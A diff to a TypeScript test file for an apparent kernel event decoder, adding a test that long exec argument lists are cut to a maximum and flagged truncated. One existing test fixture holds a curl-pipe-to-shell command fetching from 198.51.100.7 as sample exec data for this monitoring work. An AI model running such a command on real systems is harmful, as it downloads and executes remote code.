@@ -2,7 +2,7 @@
 // (LAYOUT), decoded, and compared with the event they encode. Plus golden
 // payloads (a DNS query, a TLS ClientHello) and the malformed cases.
 import { describe, expect, test } from "bun:test";
-import { DecodeError, decodeFrames, decodeRecord, ipv6, parseClientHelloSni, parseDnsQuery } from "./decode.ts";
+import { ARGV_MAX, DecodeError, decodeFrames, decodeRecord, ipv6, parseClientHelloSni, parseDnsQuery } from "./decode.ts";
 import { FLAG, FOPS, LAYOUT, OP, PATHF, PAYLOAD, SOURCES } from "./opcodes.ts";
 
 const H = LAYOUT.fangs_hdr;
@@ -88,6 +88,19 @@ describe("round trips", () => {
     r.dv.setUint32(L.argc, 3, true);
     r.dv.setUint32(L.args_len, args.length, true);
     expect(decodeRecord(r.b)).toEqual({ ...common("sys_enter_execve"), kind: "exec", filename: "/bin/sh", argv: ["sh", "-c", "curl http://198.51.100.7/x | sh"], argv_truncated: true });
+  });
+
+  test("exec with more argv strings than the protocol takes: cut to ARGV_MAX and marked truncated", () => {
+    const L = LAYOUT.fangs_exec_ev;
+    const r = record(L.size, { op: OP.EXEC, source: "sched_process_exec" });
+    r.str(L.filename, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus");
+    const args = Array.from({ length: 200 }, (_, i) => `-D${i}`).join("\0") + "\0";
+    r.str(L.args, args);
+    r.dv.setUint32(L.args_len, args.length, true);
+    const e = decodeRecord(r.b) as { argv: string[]; argv_truncated?: boolean };
+    expect(e.argv.length).toBe(ARGV_MAX);
+    expect(e.argv[0]).toBe("-D0");
+    expect(e.argv_truncated).toBe(true);
   });
 
   // What the kernel resolved vs what was asked for (bpf/lib/path.h).
